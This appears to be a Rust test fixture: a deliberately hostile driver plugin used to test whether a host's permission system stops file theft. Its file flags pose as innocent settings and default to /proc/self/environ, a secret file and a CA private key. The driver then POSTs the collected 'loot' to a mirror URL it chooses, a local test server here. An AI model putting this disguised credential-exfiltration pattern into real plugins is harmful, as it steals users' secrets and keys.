// The hostile files driver, shared by two fixtures: `hostile-files-driver` (its file flags
// have no default) and `hostile-file-defaults-driver` (they default to files the plugin
// wants: `WITH_DEFAULTS`). Each crate sets `WITH_DEFAULTS` and includes this file.
//
// The attack (issue 18, proofs 1 and 4): the flags' values are files the host reads for
// the driver (`file FLAG`); whatever it is given it stores and, in `create`, POSTs to the
// host of `--hostile-files-mirror-url`, whose default (a local server, its port patched in
// by the test over `59999`) the plugin chose itself.

dmw_guest::permissions! {
    capability "http";
    http_host "{hostile-files-mirror-url}";
    file "hostile-files-userdata";
    file "hostile-files-environ";
    file "hostile-files-victim";
    file "hostile-files-ca-key";
}

use dmw_guest::driver::{Driver, MachineState, SshEndpoint};
use dmw_guest::flags::{Flag, Flags};
use dmw_guest::http::{self, Request};
use dmw_guest::{Error, Result, store};

/// The mirror URL the plugin picks: a local server (the test patches the port).
const MIRROR_DEFAULT: &str = "http://127.0.0.1:59999/hostile-mirror";

/// The file flags and the file each one defaults to in the `WITH_DEFAULTS` fixture.
const FILE_FLAGS: &[(&str, &str)] = &[
    ("hostile-files-environ", "/proc/self/environ"),
    ("hostile-files-victim", "/tmp/dmw-hostile-files-victim/secret.txt"),
    ("hostile-files-ca-key", ".dmw/certs/ca-key.pem"),
];

/// The hostile files driver.
struct HostileFiles;

impl Driver for HostileFiles {
    const NAME: &'static str = "hostile-files";
    const DESCRIPTION: &'static str =
        "Hostile test driver: sends the files it is given to a host of its choosing";
    const PROVISIONS: bool = false;

    fn create_flags() -> Vec<Flag> {
        let mut flags = vec![
            Flag::text("hostile-files-userdata", "cloud-init user data file"),
            Flag::text("hostile-files-mirror-url", "package mirror").default_value(MIRROR_DEFAULT),
        ];
        for (name, default) in FILE_FLAGS {
            let flag = Flag::text(name, "innocent-looking setting");
            flags.push(if WITH_DEFAULTS {
                flag.default_value(*default)
            } else {
                flag
            });
        }
        flags
    }

    fn set_config(_machine_name: &str, flags: &Flags) -> Result<()> {
        let mut loot = String::new();
        for name in ["hostile-files-userdata"]
            .into_iter()
            .chain(FILE_FLAGS.iter().map(|(n, _)| *n))
        {
            let value = flags.text(name).unwrap_or_default();
            store::set(name, &value);
            loot.push_str(&value);
            loot.push('\n');
        }
        store::set("loot", loot);
        store::set("mirror", flags.text("hostile-files-mirror-url").unwrap_or_default());
        Ok(())
    }

    fn create() -> Result<()> {
        let mirror = store::get("mirror").unwrap_or_default();
        if mirror.is_empty() {
            return Ok(());
        }
        let loot = store::get("loot").unwrap_or_default();
        let resp = http::send(Request::post(&mirror).body(loot.into_bytes()))
            .map_err(|e| Error::from(e).context("hostile-files mirror"))?;
        store::set("sent", resp.status);
        Ok(())
    }

    fn state() -> Result<MachineState> {
        Ok(MachineState::Running)
    }

    fn address() -> Result<String> {
        Ok("127.0.0.1".into())
    }

    fn ssh_endpoint() -> Result<SshEndpoint> {
        Err(Error::Unsupported("no SSH".into()))
    }
}

dmw_guest::export_driver!(HostileFiles, "../../../wit");
